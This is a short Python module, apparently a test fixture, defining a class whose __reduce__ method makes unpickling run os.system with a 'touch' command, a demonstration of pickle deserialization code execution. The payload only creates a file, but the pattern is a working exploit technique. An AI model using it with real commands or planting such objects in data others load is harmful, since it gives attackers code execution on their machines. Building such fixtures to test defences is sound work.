"""A pickle that is an attack."""

import os
from pathlib import Path


class Touch:
    """Read by the usual reader, its pickle creates a file."""

    def __init__(self, path: Path | str) -> None:
        self.path = path

    def __reduce__(self) -> tuple:
        return os.system, (f"touch {self.path}",)
